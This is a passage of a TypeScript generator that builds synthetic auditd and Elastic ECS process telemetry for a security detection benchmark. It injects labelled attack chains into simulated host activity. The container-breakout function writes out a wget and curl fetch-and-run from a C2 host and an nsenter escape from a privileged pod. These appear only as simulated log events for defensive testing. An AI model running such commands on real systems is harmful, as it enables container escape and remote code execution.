  g.endActivity(h);
};

const containerBreakout = (g: Fleet, h: Host): void => {
  const c = h.containers.find((x) => x.app === "node-api")!;
  const main = c.main!;
  const sh = h.spawn(main, applet("/bin/sh", ["/bin/sh", "-c", `wget -qO /tmp/s http://${C2}/s;sh /tmp/s`]), {
    attack: "container-breakout",
  });
  h.spawn(sh, applet("/usr/bin/wget", ["wget", "-qO", "/tmp/s", `http://${C2}/s`]), {
    attack: "container-breakout",
  });
  h.exec(sh, applet("/bin/sh", ["sh", "/tmp/s"]), { attack: "container-breakout" });
  // A privileged pod: nsenter into pid 1's namespaces and continue on the host's file system.
  const ns = h.spawn(
    sh,
    applet("/usr/bin/nsenter", [
      "nsenter",
      "-t",
      "1",
      "-m",
      "-u",
      "-i",
      "-n",
      "-p",
      "--",
      "sh",
      "-c",
      `curl -fsSL http://${C2}/h -o /var/tmp/.h && sh /var/tmp/.h`,
    ]),
    { attack: "container-breakout" },
  );
  h.exec(ns, shC("sh", `curl -fsSL http://${C2}/h -o /var/tmp/.h && sh /var/tmp/.h`), {
    attack: "container-breakout",
  });
  const curl = h.spawn(ns, run("curl", "-fsSL", `http://${C2}/h`, "-o", "/var/tmp/.h"), {
    attack: "container-breakout",
  });
  g.attack({
    kind: "container-breakout",
    host: h.name,
    container: c.ref.id,
    pid: curl.pid,
    time: h.now,
    utility: "curl",
    location: "/tmp/s",
    locationKind: "script",
  });
  h.exec(ns, image("/bin/sh", "/usr/bin/dash", ["sh", "/var/tmp/.h"]), { attack: "container-breakout" });
  g.endActivity(h);
};

const ATTACKS: Readonly<Record<AttackKind, { run: Activity; eligible: (h: Host) => boolean }>> = {
  "webshell-dns": { run: webshellDns, eligible: (h) => h.phpWorkers.length > 0 },
  "shm-curl": { run: shmCurl, eligible: (h) => h.node !== undefined },
  "busybox-nc": { run: busyboxNc, eligible: () => true },
  "exec-chain-socat": { run: execChainSocat, eligible: () => true },
  "python-wget": { run: pythonWget, eligible: () => true },
  "container-breakout": {
    run: containerBreakout,
    eligible: (h) => h.containers.some((c) => c.app === "node-api"),
  },
};

/** Mean number of exec events of one attack chain, to turn `attackShare` into a count of attacks. */
const EXECS_PER_ATTACK = 6;

// ---------------------------------------------------------------------------------------------------------
// Scenario

export function generateScenario(options: ScenarioOptions): Scenario {
  const g = new Fleet(options.seed);
  const rng = g.rng;
  const roles = options.roles ?? HOST_ROLES;
  const firstHost = options.firstHost ?? 1;
  const containersPerHost = options.containersPerHost ?? 2;
  const start = options.startTime ?? Date.UTC(2026, 10, 27, 8, 0, 0);
  const gap = options.activityGapMs ?? 3000 / Math.max(1, options.hosts);

  const hosts: Host[] = [];
  for (let i = 0; i < options.hosts; i++) {
    const role = roles[i % roles.length]!;
    const host = new Host(g, `${role}-${String(firstHost + i).padStart(2, "0")}`, role, options.nearPidMax);
    host.now = start + i * rng.int(20, 400);
    boot(g, host, role === "k8s" ? containersPerHost : 0);
    hosts.push(host);
  }

  const available = ATTACK_KINDS.filter((k) => hosts.some(ATTACKS[k].eligible));
  const kinds = options.attackKinds ?? available;
  for (const kind of kinds) {
    if (!available.includes(kind))
      throw new Error(`generator: no host can run attack ${kind} (roles, containers)`);
  }
  const attackCount =
    options.attackShare > 0 && kinds.length > 0
      ? Math.max(kinds.length, Math.round((options.events * options.attackShare) / EXECS_PER_ATTACK))
      : 0;
  // Each block of kinds.length attacks holds every kind once, in a shuffled order.
  const plan: AttackKind[] = [];
  while (plan.length < attackCount) plan.push(...rng.shuffle([...kinds]).slice(0, attackCount - plan.length));
  // Trigger points in exec counts, spread over the middle of the run so that no attack is cut off the end.
  const triggers = plan.map(
    (_, i) =>
      (options.history ?? 0) + Math.floor(options.events * (0.1 + (0.8 * (i + rng.float())) / attackCount)),
  );

  let clock = start + 2000;
  let next = 0;
  const history = options.history ?? 0;
  // Successful execs when the window began: the history overshoots by the end of its last activity.
  let windowFrom = history > 0 ? undefined : 0;
  while (windowFrom === undefined || g.successes < windowFrom + options.events) {
    if (windowFrom === undefined && g.successes >= history) {
      windowFrom = g.successes;
      for (const host of hosts) host.goRound();
      clock += options.historyGapMs ?? 6 * 3_600_000;
      continue;
    }
    clock += rng.exp(gap);
    const trigger = triggers[next];
    if (trigger !== undefined && g.successes >= trigger) {
      const kind = plan[next++]!;
      const host = rng.pick(hosts.filter(ATTACKS[kind].eligible));
      host.now = Math.round(clock);
      ATTACKS[kind].run(g, host);
      continue;
    }
    const host = rng.pick(hosts);
    host.now = Math.round(clock);
    rng.weighted(activitiesFor(host))(g, host);
  }

  // The last activity overshoots: cut it (in generation order) at exactly `events` successful execs.
  let kept = 0;
  let end = 0;
  while (end < g.execs.length && kept < windowFrom + options.events) {
    if (g.execs[end]!.failed !== true) kept++;
    end++;
  }
  const execs = g.execs.slice(0, end);
  const attacks = g.attacks.filter((a) => a.index < end).map((a) => a.instance);
  const lastTime = execs.reduce((max, e) => Math.max(max, e.time), 0);
  const sessions = g.sessions.filter((s) => s.time <= lastTime);
  // Stable sorts: within one millisecond, a parent stays before its child.
  execs.sort((a, b) => a.time - b.time);
  sessions.sort((a, b) => a.time - b.time);
  return {
    seed: options.seed,
    hosts: hosts.map((h) => h.name),
    execs,
    sessions,
    attacks,
    events: kept,
    historyEvents: windowFrom,
  };
}

// ---------------------------------------------------------------------------------------------------------
// auditd rendering

const GS = "\x1d";
/** MAX_EXECVE_AUDIT_LEN: the kernel starts a new EXECVE record, or splits an argument, around this size. */
const EXECVE_BUDGET = 7500;
/** The kernel logs at most this much of /proc/PID/cmdline in PROCTITLE. */
const PROCTITLE_MAX = 128;

/** audit_string_contains_control: a quote, a blank, a control byte or a non-ASCII byte forces hex. */
const needsHex = (text: string): boolean => {
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x22 || c < 0x21 || c > 0x7e) return true;
  }
  return false;
};
const hexOf = (text: string): string => Buffer.from(text, "utf8").toString("hex").toUpperCase();
const untrusted = (text: string): string => (needsHex(text) ? hexOf(text) : `"${text}"`);

function execveBodies(args: readonly string[]): string[] {
  const records: string[][] = [[`argc=${args.length}`]];
  let room = EXECVE_BUDGET;
  const add = (field: string) => {
    if (field.length + 1 > room) {
      records.push([]);
      room = EXECVE_BUDGET;
    }
    records[records.length - 1]!.push(field);
    room -= field.length + 1;
  };
  args.forEach((arg, i) => {
    const hex = needsHex(arg);
    const value = hex ? hexOf(arg) : arg;
    const whole = hex ? `a${i}=${value}` : `a${i}="${value}"`;
    if (whole.length + 1 <= EXECVE_BUDGET - 96) {
      add(whole);
      return;
    }
    // A long argument: its logged length, then pieces of it, each on as many records as it takes.
    add(`a${i}_len=${value.length}`);
    let offset = 0;
    for (let part = 0; offset < value.length; part++) {
      if (room < 256) {
        records.push([]);
        room = EXECVE_BUDGET;
      }
      let take = Math.min(value.length - offset, room - 32);
      if (hex) take -= take % 2;
      const piece = value.slice(offset, offset + take);
      add(hex ? `a${i}[${part}]=${piece}` : `a${i}[${part}]="${piece}"`);
      offset += take;
    }
  });
  return records.filter((r) => r.length > 0).map((r) => r.join(" "));
}

function proctitle(args: readonly string[]): string {
  const bytes = Buffer.from(args.join("\0"), "utf8").subarray(0, PROCTITLE_MAX);
  for (const b of bytes) if (b === 0x22 || b < 0x21 || b > 0x7e) return bytes.toString("hex").toUpperCase();
  return `"${bytes.toString("latin1")}"`;
}

const idName = (id: number): string => (id === UNSET ? "unset" : account(id).name);

/** inode and device of a path: stable per path, file systems as on the captured host. */
function fileIdentity(path: string): { inode: number; dev: string } {
  let h = 0x811c9dc5;
  for (let i = 0; i < path.length; i++) h = Math.imul(h ^ path.charCodeAt(i), 0x01000193) >>> 0;
  const dev = path.startsWith("/dev/shm/") ? "00:1b" : path.startsWith("/proc/") ? "00:01" : "fe:00";
  return { inode: 100 + (h % 3_000_000), dev };
}

const writable = (path: string): boolean =>
  path.startsWith("/tmp/") ||
  path.startsWith("/var/tmp/") ||
  path.startsWith("/dev/shm/") ||
  path.startsWith("./");

function pathRecord(item: number, name: string, owner: number): string {
  const { inode, dev } = fileIdentity(name);
  const o = account(owner);
  return (
    `item=${item} name=${untrusted(name)} inode=${inode} dev=${dev} mode=0100755 ouid=${owner} ogid=${o.gid} rdev=00:00 ` +
    `nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0${GS}OUID="${o.name}" OGID="${o.group}"`
  );
}

interface Pointers {
  readonly a0: string;
  readonly a1: string;
  readonly a2: string;
  readonly a3: string;
}

function syscallBody(e: ProcessExec, items: number, p: Pointers): string {
  const a = account(e.uid);
  const ea = account(e.euid);
  const result = e.failed ? "success=no exit=-2" : "success=yes exit=0";
  return (
    `arch=c000003e syscall=59 ${result} a0=${p.a0} a1=${p.a1} a2=${p.a2} a3=${p.a3} items=${items} ` +
    `ppid=${e.ppid} pid=${e.pid} auid=${e.auid} uid=${e.uid} gid=${a.gid} euid=${e.euid} suid=${e.euid} ` +
    `fsuid=${e.euid} egid=${a.gid} sgid=${a.gid} fsgid=${a.gid} tty=${e.tty} ses=${e.ses} ` +
    `comm=${untrusted(e.comm)} exe=${untrusted(e.exe)} key="exec"` +
    `${GS}ARCH=x86_64 SYSCALL=execve AUID="${idName(e.auid)}" UID="${a.name}" GID="${a.group}" ` +
    `EUID="${ea.name}" SUID="${ea.name}" FSUID="${ea.name}" EGID="${a.group}" SGID="${a.group}" FSGID="${a.group}"`
  );
}

/** The record bodies of one exec, in the kernel's order: SYSCALL, EXECVE…, CWD, PATH…, PROCTITLE. */
function execRecords(e: ProcessExec, p: Pointers): [type: string, body: string][] {
  const cwd = `cwd=${untrusted(e.cwd)}`;
  if (e.failed) {
    const path = `item=0 name=${untrusted(e.path)} nametype=UNKNOWN cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`;
    return [
      ["SYSCALL", syscallBody(e, 1, p)],
      ["CWD", cwd],
      ["PATH", path],
      ["PROCTITLE", `proctitle=${proctitle(e.callerArgs ?? e.args)}`],
    ];
  }
  const owner = writable(e.path) ? e.uid : 0;
  const paths = [pathRecord(0, e.path, owner)];
  if (e.interpreter !== undefined) paths.push(pathRecord(1, e.interpreter, 0));
  if (e.loader !== undefined) paths.push(pathRecord(paths.length, e.loader, 0));
  return [
    ["SYSCALL", syscallBody(e, paths.length, p)],
    ...execveBodies(e.args).map((b) => ["EXECVE", b] as [string, string]),
    ["CWD", cwd],
    ...paths.map((b) => ["PATH", b] as [string, string]),
    ["PROCTITLE", `proctitle=${proctitle(e.args)}`],
  ];
}

const PAM_GRANTORS = {
  acct: "pam_permit",
  cred: "pam_permit",
  session: "pam_loginuid,pam_env,pam_env,pam_permit,pam_unix,pam_limits",
} as const;

function sessionRecords(s: SessionRecord): [type: string, body: string][] {
  const acct = account(s.uid).name;
  const exe = s.service === "cron" ? "/usr/sbin/cron" : "/usr/sbin/sshd";
  const where =
    s.service === "cron"
      ? "hostname=? addr=? terminal=cron"
      : `hostname=${s.addr ?? "?"} addr=${s.addr ?? "?"} terminal=ssh`;
  const pam = (op: string, grantors: string, auid: number, ses: number) =>
    `pid=${s.pid} uid=0 auid=${auid} ses=${ses} msg='op=PAM:${op} grantors=${grantors} acct="${acct}" exe="${exe}" ${where} res=success'` +
    `${GS}UID="root" AUID="${idName(auid)}"`;
  if (s.op === "open") {
    const records: [string, string][] = [
      ["USER_ACCT", pam("accounting", PAM_GRANTORS.acct, UNSET, UNSET)],
      ["CRED_ACQ", pam("setcred", PAM_GRANTORS.cred, UNSET, UNSET)],
      [
        "LOGIN",
        `pid=${s.pid} uid=0 old-auid=${UNSET} auid=${s.uid} tty=(none) old-ses=${UNSET} ses=${s.ses} res=1` +
          `${GS}UID="root" OLD-AUID="unset" AUID="${acct}"`,
      ],
      ["USER_START", pam("session_open", PAM_GRANTORS.session, s.uid, s.ses)],
    ];
    if (s.service === "sshd") {
      records.push([
        "USER_LOGIN",
        `pid=${s.pid} uid=0 auid=${s.uid} ses=${s.ses} msg='op=login id=${s.uid} exe="${exe}" hostname=${s.addr ?? "?"} ` +
          `addr=${s.addr ?? "?"} terminal=/dev/${(s.tty ?? "pts0").replace("pts", "pts/")} res=success'` +
          `${GS}UID="root" AUID="${acct}" ID="${acct}"`,
      ]);
    }
    return records;
  }
  return [
    ["USER_END", pam("session_close", PAM_GRANTORS.session, s.uid, s.ses)],
    ["CRED_DISP", pam("setcred", PAM_GRANTORS.cred, s.uid, s.ses)],
  ];
}

export interface AuditdRenderOptions {
  /** Share of execs whose records interleave with the next ones of the same host (default 0.05). */
  readonly interleave?: number;
}

/**
 * auditd ENRICHED lines, `node=HOST ` first, one serial per event and per node (increasing, with the gaps that
 * other audit events leave), the records of a few close events of one host interleaved as they are when
 * several CPUs exec at once. Within an interleaved group each event still completes after the one before it,
 * so a decoder emits parents before children.
 */
export function toAuditdLines(scenario: Scenario, options: AuditdRenderOptions = {}): string[] {
  return [...auditdLines(scenario, options)];
}

interface RenderedEvent {
  readonly host: string;
  readonly time: number;
  readonly lines: readonly string[];
  readonly exec: boolean;
  taken: boolean;
}

/** Events a record may be interleaved with: the next few of the stream (concurrent CPUs, not minutes apart). */
const INTERLEAVE_WINDOW = 8;

/** toAuditdLines as a stream: the benchmark renders 150,000 events without holding every line as a string. */
export function* auditdLines(scenario: Scenario, options: AuditdRenderOptions = {}): Generator<string> {
  const rng = new Rng(scenario.seed ^ 0x5eed_a0d1);
  const interleave = options.interleave ?? 0.05;
  const serials = new Map<string, number>();
  const stamp = (ms: number) => `${Math.floor(ms / 1000)}.${String(ms % 1000).padStart(3, "0")}`;

  const render = (host: string, time: number, records: [string, string][], exec: boolean): RenderedEvent => {
    const lines: string[] = [];
    let serial = serials.get(host) ?? rng.int(1000, 2_000_000);
    // PAM records are separate audit events, each with a serial of its own.
    for (let i = 0; i < records.length; i++) {
      if (i === 0 || !exec) serial += 1 + (rng.chance(0.1) ? rng.int(1, 3) : 0);
      const [type, body] = records[i]!;
      lines.push(`node=${host} type=${type} msg=audit(${stamp(time)}:${serial}): ${body}`);
    }
    serials.set(host, serial);
    return { host, time, lines, exec, taken: false };
  };
  const pointers = (): Pointers => {
    const stack = `7ff${rng.hex(9)}`;
    return {
      a0: `55${rng.hex(10)}`,
      a1: `55${rng.hex(10)}`,
      a2: `55${rng.hex(10)}`,
      a3: rng.chance(0.5) ? "8" : stack,
    };
  };
  // Execs and PAM sessions merged by time, each rendered as it enters the look-ahead window.
  function* events(): Generator<RenderedEvent> {
    const sessions = scenario.sessions;
    let si = 0;
    for (const e of scenario.execs) {
      while (si < sessions.length && sessions[si]!.time <= e.time) {
        const s = sessions[si++]!;
        yield render(s.host, s.time, sessionRecords(s), false);
      }
      yield render(e.host, e.time, execRecords(e, pointers()), true);
    }
    while (si < sessions.length) {
      const s = sessions[si++]!;
      yield render(s.host, s.time, sessionRecords(s), false);
    }
  }

  const source = events();
  const window: RenderedEvent[] = [];
  const fill = () => {
    while (window.length <= INTERLEAVE_WINDOW) {
      const next = source.next();
      if (next.done) return;
      window.push(next.value);
    }
  };
  for (fill(); window.length > 0; fill()) {
    const first = window.shift()!;
    if (first.taken) continue;
    const group = [first];
    if (first.exec && rng.chance(interleave)) {
      const want = rng.int(1, 2);
      for (const r of window.slice(0, INTERLEAVE_WINDOW)) {
        if (group.length > want) break;
        if (!r.taken && r.exec && r.host === first.host && r.time - first.time <= 3) {
          group.push(r);
          r.taken = true;
        }
      }
    }
    if (group.length === 1) {
      yield* first.lines;
      continue;
    }
    // Merge: any started event may write its next record, but an event's last record (PROCTITLE) waits for
    // the events before it to finish, and an event starts only after the one before it has.
    const next = group.map(() => 0);
    let started = 1;
    for (;;) {
      const ready: number[] = [];
      for (let k = 0; k < started; k++) {
        const lines = group[k]!.lines;
        if (next[k]! >= lines.length) continue;
        const isLast = next[k] === lines.length - 1;
        if (isLast && next.slice(0, k).some((n, m) => n < group[m]!.lines.length)) continue;
        ready.push(k);
      }
      if (started < group.length) ready.push(started);
      if (ready.length === 0) break;
      const k = rng.pick(ready);
      if (k === started) started++;
      yield group[k]!.lines[next[k]!]!;
      next[k]!++;
    }
  }
}

// ---------------------------------------------------------------------------------------------------------
// ECS rendering

/**
 * One ECS process-start document per successful exec (Elastic Defend / Auditbeat shape): failed execve
 * attempts produce no process and no document.
 */
export function toEcsLines(scenario: Scenario): string[] {
  return [...ecsLines(scenario)];
}

export function* ecsLines(scenario: Scenario): Generator<string> {
  for (const e of scenario.execs) {
    if (e.failed) continue;
    const parent: Record<string, unknown> = { pid: e.ppid };
    if (e.parentExe !== undefined) parent["executable"] = e.parentExe;
    const doc: Record<string, unknown> = {
      "@timestamp": new Date(e.time).toISOString(),
      ecs: { version: "8.11.0" },
      host: { name: e.host, hostname: e.host, os: { type: "linux", family: "debian" } },
      event: {
        kind: "event",
        category: ["process"],
        type: ["start"],
        action: "exec",
        module: "endpoint",
        dataset: "endpoint.events.process",
      },
      process: {
        pid: e.pid,
        name: e.comm,
        executable: e.exe,
        args: e.args,
        args_count: e.args.length,
        working_directory: e.cwd,
        parent,
      },
      user: { id: String(e.uid), name: e.user },
    };
    if (e.container !== undefined) {
      doc["container"] = { id: e.container.id, image: { name: e.container.image }, runtime: "containerd" };
    }
    yield JSON.stringify(doc);
  }
}

// ---------------------------------------------------------------------------------------------------------
// The demo shipped in lib/demo (npm start)

export const DEMO_AUDITD: ScenarioOptions = {
  seed: 20261127,
  events: 300,
  hosts: 2,
  roles: ["web", "app"],
  attackShare: 0.1,
  attackKinds: ["webshell-dns", "shm-curl", "busybox-nc", "exec-chain-socat", "python-wget"],
  activityGapMs: 1500,
};

export const DEMO_ECS: ScenarioOptions = {
  seed: 20261128,
  events: 60,
  hosts: 1,
  roles: ["k8s"],
  firstHost: 3,
  containersPerHost: 2,
  attackShare: 0.1,
  attackKinds: ["container-breakout"],
  activityGapMs: 1500,
};

/** The demo files' contents: what `UPDATE_DEMO=1` writes to lib/demo and what the demo test compares. */
export function demoTelemetry(): {
  auditd: string;
  ecs: string;
  scenarios: { auditd: Scenario; ecs: Scenario };
} {
  const auditd = generateScenario(DEMO_AUDITD);
  const ecs = generateScenario(DEMO_ECS);
  return {
    auditd: `${toAuditdLines(auditd).join("\n")}\n`,
    ecs: `${toEcsLines(ecs).join("\n")}\n`,
    scenarios: { auditd, ecs },
  };
}
